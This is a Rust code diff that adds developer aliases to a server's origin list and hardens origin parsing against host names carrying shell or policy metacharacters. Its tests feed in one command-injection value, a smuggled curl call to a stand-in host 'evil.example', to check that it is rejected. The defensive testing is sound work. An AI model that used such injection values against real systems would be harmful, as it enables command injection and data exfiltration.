@@ -15,16 +15,20 @@ pub const MOST: usize = 100_000;
 #[derive(Debug)]
 pub struct Origins {
     own: Box<str>,
+    aliases: Vec<Box<str>>,
     extra: Vec<Box<str>>,
     known: ArcSwap<HashSet<Box<str>>>,
 }
 
 impl Origins {
-    /// `own` is the origin of the public URL; `extra` those that the configuration names.
-    pub fn new(own: &str, extra: &[String]) -> Self {
+    /// `own` is the origin of the public URL, `aliases` other names of this server on a developer's machine; `extra`
+    /// those that the configuration names.
+    pub fn new(own: &str, aliases: &[String], extra: &[String]) -> Self {
+        let boxed = |list: &[String]| list.iter().map(|origin| origin.as_str().into()).collect();
         Self {
             own: own.into(),
-            extra: extra.iter().map(|origin| origin.as_str().into()).collect(),
+            aliases: boxed(aliases),
+            extra: boxed(extra),
             known: ArcSwap::from_pointee(HashSet::new()),
         }
     }
@@ -41,7 +45,13 @@ impl Origins {
 
     /// Whether `origin` is the one that our own pages have, or one that the configuration adds to it.
     pub fn is_ours(&self, origin: &str) -> bool {
-        *self.own == *origin || self.extra.iter().any(|known| **known == *origin)
+        self.is_own(origin) || self.extra.iter().any(|known| **known == *origin)
+    }
+
+    /// Whether `origin` is that of pages which we serve ourselves. Others run other people's scripts, whatever the
+    /// configuration allows them.
+    pub fn is_own(&self, origin: &str) -> bool {
+        *self.own == *origin || self.aliases.iter().any(|known| **known == *origin)
     }
 
     /// The origin of our own pages.
@@ -64,6 +74,13 @@ pub fn parse(text: &str) -> Option<String> {
         && url.username().is_empty()
         && url.password().is_none();
     if !bare || text.contains('*') {
+        return None;
+    }
+    // The URL standard lets a host hold `;`, `$` or a quotation mark. No name has them, and an origin is printed in
+    // commands and stands in policies.
+    if let Some(url::Host::Domain(name)) = url.host()
+        && !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_'))
+    {
         return None;
     }
     of_url(&url)
@@ -91,14 +108,27 @@ mod tests {
             "https://u@a.example",
             "shop.example",
             "https://a.example?x",
+            "https://x;$({curl,-s,evil.example})",
+            "https://a;sandbox",
+            "https://a'b.example",
+            "https://a`b.example",
         ] {
             assert_eq!(parse(bad), None, "{bad}");
         }
     }
 
     #[test]
+    fn what_the_configuration_allows_is_not_a_page_of_ours() {
+        let list = |one: &str| [one.to_owned()];
+        let origins =
+            Origins::new("https://chat.example", &list("http://localhost:3001"), &list("https://shop.example"));
+        assert!(origins.is_ours("https://shop.example") && !origins.is_own("https://shop.example"));
+        assert!(origins.is_own("https://chat.example") && origins.is_own("http://localhost:3001"));
+    }
+
+    #[test]
     fn a_look_alike_is_not_known() {
-        let origins = Origins::new("http://127.0.0.1:8080", &[]);
+        let origins = Origins::new("http://127.0.0.1:8080", &[], &[]);
         origins.replace(["https://shop.example".to_owned()].into_iter());
         assert!(origins.is_known("https://shop.example"));
         for other in [
